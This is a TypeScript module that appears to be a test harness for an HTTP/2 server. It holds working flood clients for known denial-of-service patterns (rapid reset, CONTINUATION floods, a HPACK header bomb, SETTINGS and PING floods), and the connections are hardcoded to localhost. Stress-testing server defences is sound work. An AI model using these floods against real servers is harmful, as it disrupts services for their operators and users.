/** Clients of HTTP/2 (without TLS) that do what is known to be hard on servers, again and again, until they are told to stop. */
import { connect, type Socket } from 'node:net'
import * as h2 from '#http/h2/frames.ts'
import { encodeRequestHead } from '#http/h2/hpack-encoder.ts'

interface Flood {
  readonly name: string
  /** After the preface and the settings. */
  readonly begin: readonly Buffer[]
  /** The part of this number, some kilobytes; parts follow each other as fast as they are taken. */
  readonly part: (number: number) => Buffer
  /** Time for what a part asks for to begin before the next one comes. */
  readonly pauseMs?: number
}

const frame = (type: number, flags: number, stream: number, payload: Buffer | string = ''): Buffer => {
  const bytes = typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload
  return Buffer.concat([Buffer.from(h2.frameHead(bytes.length, type, flags, stream), 'latin1'), bytes])
}
const uint32 = (value: number): Buffer => Buffer.from(h2.uint32(value), 'latin1')
const times = (count: number, make: (at: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, at) => make(at)))

const GET = Buffer.from(encodeRequestHead('GET / HTTP/1.1\r\nHost: a.test\r\n\r\n', 'http'), 'latin1')
const POST = Buffer.from(encodeRequestHead('POST / HTTP/1.1\r\nHost: a.test\r\n\r\n', 'http'), 'latin1')
const whole = h2.END_HEADERS | h2.END_STREAM
const streamOf = (part: number, at: number, perPart: number): number => 1 + 2 * (part * perPart + at)
const PER_PART = 200
/** Requests that most servers let a client have under way. */
const PER_BURST = 100

/** Of 8 bytes, as all servers send it that say no more. */
const GOAWAY = Buffer.from(h2.frameHead(8, h2.GOAWAY, 0, 0), 'latin1')

/** A field of 4,000 bytes goes into the table of the connection once (RFC 7541 6.2.1), and is then named by one byte each. */
const bombEntry = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x61)])
const BOMB = Buffer.concat([GET, bombEntry, Buffer.alloc(12_000, 0xbe)])

/** As many as a frame takes: streams that the client would let the server begin. */
const MANY_SETTINGS = times(2700, (at) => Buffer.concat([Buffer.from([0, 3]), uint32(at)]))

export const http2Floods: readonly Flood[] = [
  {
    name: 'rapid resets',
    begin: [],
    part: (part) =>
      times(PER_PART, (at) => {
        const stream = streamOf(part, at, PER_PART)
        return Buffer.concat([
          frame(h2.HEADERS, whole, stream, GET),
          frame(h2.RST_STREAM, 0, stream, uint32(h2.CANCEL)),
        ])
      }),
  },
  {
    name: 'resets of requests under way',
    begin: [],
    pauseMs: 3,
    part: (part) =>
      times(PER_BURST, (at) => {
        const stream = streamOf(part >> 1, at, PER_BURST)
        return part % 2 === 0
          ? frame(h2.HEADERS, whole, stream, GET)
          : frame(h2.RST_STREAM, 0, stream, uint32(h2.CANCEL))
      }),
  },
  {
    name: 'streams that the server is made to reset',
    begin: [],
    part: (part) =>
      times(PER_PART, (at) => {
        const stream = streamOf(part, at, PER_PART)
        return Buffer.concat([frame(h2.HEADERS, whole, stream, GET), frame(h2.WINDOW_UPDATE, 0, stream, uint32(0))])
      }),
  },
  {
    name: 'endless CONTINUATION',
    begin: [frame(h2.HEADERS, h2.END_STREAM, 1, GET)],
    part: () =>
      times(PER_PART, () =>
        frame(h2.CONTINUATION, 0, 1, Buffer.concat([Buffer.from([0, 1, 0x78, 60]), Buffer.alloc(60, 0x61)])),
      ),
  },
  {
    name: 'empty CONTINUATION',
    begin: [frame(h2.HEADERS, h2.END_STREAM, 1, GET)],
    part: () => times(PER_PART, () => frame(h2.CONTINUATION, 0, 1)),
  },
  { name: 'settings', begin: [], part: () => times(PER_PART, () => frame(h2.SETTINGS, 0, 0)) },
  { name: 'long settings', begin: [], part: () => frame(h2.SETTINGS, 0, 0, MANY_SETTINGS) },
  { name: 'pings', begin: [], part: () => times(PER_PART, () => frame(h2.PING, 0, 0, '12345678')) },
  {
    name: 'empty DATA',
    begin: [frame(h2.HEADERS, h2.END_HEADERS, 1, POST)],
    part: () => times(PER_PART, () => frame(h2.DATA, 0, 1)),
  },
  {
    name: 'header bombs',
    begin: [],
    part: (part) => frame(h2.HEADERS, whole, 1 + 2 * part, BOMB),
  },
]

export interface FloodClients {
  /** Connections that were made, and bytes that were sent. */
  readonly figures: { connections: number; bytes: number }
  stop(): Promise<void>
}

/**
 * @param clients connections at a time; one that is ended is followed by another.
 * @param from the address of a client, given its number and that of the connection.
 */
export function startFlood(
  flood: Flood,
  port: number,
  clients: number,
  from: (client: number, connection: number) => string = () => '127.0.0.1',
): FloodClients {
  const figures = { connections: 0, bytes: 0 }
  const opening = Buffer.concat([h2.PREFACE, frame(h2.SETTINGS, 0, 0), ...flood.begin])
  // Made once, so that an attacker costs little more than what it writes.
  const parts = Array.from({ length: 50 }, (_, number) => flood.part(number))
  const running = new Set<Promise<void>>()
  const state = { isStopped: false }

  const attack = async (client: number): Promise<void> => {
    while (!state.isStopped)
      await once(connect({ port, host: '127.0.0.1', localAddress: from(client, figures.connections) }))
  }
  const once = (socket: Socket): Promise<void> =>
    new Promise((resolve) => {
      let at = 0
      figures.connections++
      const write = (bytes: Buffer): boolean => {
        figures.bytes += bytes.length
        return socket.write(bytes)
      }
      const goOn = (): void => {
        while (!socket.destroyed && !state.isStopped && at < parts.length) {
          const isTaken = write(parts[at++]!)
          if (flood.pauseMs !== undefined) return void setTimeout(goOn, flood.pauseMs)
          if (!isTaken) return
        }
        if (at === parts.length || state.isStopped) socket.destroy()
      }
      socket.on('connect', () => {
        write(opening)
        goOn()
      })
      if (flood.pauseMs === undefined) socket.on('drain', goOn)
      // Every second one is told once, and begins anew at once; the others don't look at what they are told.
      const isHasty = figures.connections % 2 === 0
      socket.on('data', (bytes: Buffer) => {
        if (isHasty && bytes.includes(GOAWAY)) socket.destroy()
      })
      socket.on('error', () => socket.destroy())
      socket.on('end', () => socket.destroy())
      socket.on('close', () => resolve())
      stoppers.add(socket)
      socket.once('close', () => stoppers.delete(socket))
    })
  const stoppers = new Set<Socket>()
  for (let i = 0; i < clients; i++) running.add(attack(i))
  return {
    figures,
    async stop() {
      state.isStopped = true
      for (const socket of stoppers) socket.destroy()
      await Promise.all(running)
    },
  }
}
